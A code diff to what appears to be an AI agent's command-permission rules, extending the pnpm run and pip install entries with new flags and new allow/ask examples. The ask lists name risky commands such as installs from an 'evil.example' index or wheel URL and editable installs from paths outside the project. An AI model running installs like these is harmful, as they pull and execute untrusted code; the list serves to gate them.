@@ -160,13 +160,23 @@ export const packageRules: readonly ProgramRule[] = [
   {
     tokens: 'pnpm run',
     flags:
-      '-r --recursive --silent -s --if-present --parallel --stream --aggregate-output --no-bail --sequential',
+      '-r --recursive --filter=text -F=text --silent -s --if-present --parallel --stream --aggregate-output --no-bail --sequential',
     operands: 'task',
     stopsAtOperand: true,
     runsWorkspaceCode: true,
     examples: {
-      allow: ['pnpm run build', 'pnpm run test --coverage', 'pnpm run -r build'],
-      ask: ['pnpm run --dir=/tmp build', 'pnpm exec x', 'pnpm run --script-shell x build'],
+      allow: [
+        'pnpm run build',
+        'pnpm run test --coverage',
+        'pnpm run -r build',
+        'pnpm run --filter @x/a build',
+      ],
+      ask: [
+        'pnpm run --filter ../x build',
+        'pnpm run --dir=/tmp build',
+        'pnpm exec x',
+        'pnpm run --script-shell x build',
+      ],
     },
   },
   ...['pip install', 'pip3 install'].map(pipRule),
@@ -175,7 +185,7 @@ export const packageRules: readonly ProgramRule[] = [
 function pipRule(tokens: string): ProgramRule {
   return {
     tokens,
-    flags: `-r=read --requirement=read -c=read --constraint=read -e=read --editable=read -U --upgrade -q --quiet -v --verbose --no-cache-dir --no-deps
+    flags: `-r=read --requirement=read -c=read --constraint=read -e=project --editable=project -U --upgrade -q --quiet -v --verbose --no-cache-dir --no-deps
       --pre --dry-run --no-input --disable-pip-version-check --upgrade-strategy=name --progress-bar=name --no-color --require-hashes
       --only-binary=text --prefer-binary --force-reinstall -I --ignore-installed --no-warn-script-location --no-build-isolation`,
     operands: 'python_packages',
@@ -187,6 +197,8 @@ function pipRule(tokens: string): ProgramRule {
         `${tokens} -r requirements.txt`,
         `${tokens} "django>=4,<5" -q`,
         `${tokens} -e .`,
+        `${tokens} -e .[dev]`,
+        `${tokens} -e './packages/a[dev,test]'`,
         `${tokens} '.[dev]'`,
       ],
       ask: [
@@ -196,6 +208,9 @@ function pipRule(tokens: string): ProgramRule {
         `${tokens} --index-url https://evil.example x`,
         `${tokens} --target /tmp x`,
         `${tokens} -e ../evil`,
+        `${tokens} -e '../evil[x]'`,
+        `${tokens} -e .[!a]`,
+        `${tokens} evil.TXZ`,
         `${tokens} --user x`,
         `${tokens} "x @ https://evil.example/x.whl"`,
       ],
